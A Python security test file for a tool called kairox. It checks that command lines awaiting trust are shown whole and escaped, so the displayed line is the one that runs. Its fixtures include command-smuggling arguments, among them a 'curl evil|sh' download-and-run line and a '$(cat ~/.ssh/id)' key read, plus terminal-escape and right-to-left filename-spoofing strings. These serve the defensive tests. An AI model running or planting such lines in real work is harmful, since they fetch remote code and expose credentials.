"""What trusting shows: each command line whole, exactly as it will run.

Written as the attack: a would-be command writes a marker file (outside the workspace), a
127.0.0.1 listener stands for an endpoint the workspace chose and must receive nothing,
and the secret of the environment must appear nowhere. ``kairox trust`` runs in process
(``KairoxHarness.cli``); the commands that could send something run as real processes.
"""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from security_helpers import Clone, cli

from kairox import shell_line

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="POSIX shells")

# -- 1. a command line is shown whole, exactly as it will run -----------------------------------


def hostile_argv(markers: Path) -> list[str]:
    """``sh -c SCRIPT`` whose script, and arguments, a pattern over command text once cut short
    (``token=X`` hid up to the next space, ``--token=X`` and ``Bearer X`` likewise)."""
    script = f"token=$(touch {markers / 'ran'});--api-key=a;touch {markers / 'ran-too'}"
    return ["sh", "-c", script, "attack", "--x=a;curl evil|sh", "token=$(cat ~/.ssh/id)", "--token", "Bearer $(id)"]


def test_a_command_line_is_shown_whole_and_what_runs_is_what_was_shown(clone: Clone, no_leftovers: None) -> None:
    argv = hostile_argv(clone.markers)
    clone.write("kairox.toml", f"[mcp_servers.x]\ncommand = {json.dumps(argv[0])}\nargs = {json.dumps(argv[1:])}\n")
    line = shlex.join(argv)

    pending = clone.status()["trust"]["pending"]
    assert [p["commands"] for p in pending] == [[line]], pending
    assert clone.ran() == set()
    shown = json.loads(cli(clone.harness, "--json", "trust").stdout)["trusted"][0]["commands"]
    assert shown == [line]
    assert cli(clone.harness, "trust", "--revoke").exit_code == 0
    text = cli(clone.harness, "trust").stdout
    assert f"      runs:     {line}\n" in text, text
    assert shlex.split(line) == argv, "the line a shell reads back is the argv"

    clone.status()
    assert clone.ran() == {"ran", "ran-too"}, "trusted, the command shown is the command that ran"


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash reads $'...' back")
@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.text(st.characters(exclude_characters="\0", exclude_categories=("Cs",)), max_size=12), min_size=1, max_size=4
    )
)
def test_a_shown_command_line_reads_back_as_the_same_arguments(argv: list[str]) -> None:
    """What is shown is the argv itself: bash reads the shown line back to exactly ``argv``
    (control and bidi characters escaped in ``$'...'``, never dropped), and the line holds
    no character that could drive a terminal."""
    line = shell_line(argv)
    assert not [c for c in line if ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u2066\u200f"], repr(line)
    out = subprocess.run(
        ["bash", "-c", f'printf "%s\\0" {line}'],
        capture_output=True,
        env={"LC_ALL": "C.UTF-8", "PATH": os.defpath},
        timeout=30,
        check=True,
    ).stdout
    assert out.decode("utf-8", "surrogateescape").split("\0")[:-1] == argv


def test_an_argument_with_escape_sequences_is_shown_visibly_whole(clone: Clone) -> None:
    argv = ["sh", "-c", "true", "\x1b]0;owned\x07\x1b[2Jok", "a\u202egpj.exe", "two\nlines"]
    clone.write("kairox.toml", f'[mcp_servers.e]\ncommand = "sh"\nargs = {json.dumps(argv[1:])}\n')
    text = cli(clone.harness, "trust").stdout
    assert "runs:     sh -c true $'\\x1b]0;owned\\x07\\x1b[2Jok' $'a\\u202egpj.exe' $'two\\nlines'\n" in text, text
    assert "\x1b" not in text and "\u202e" not in text
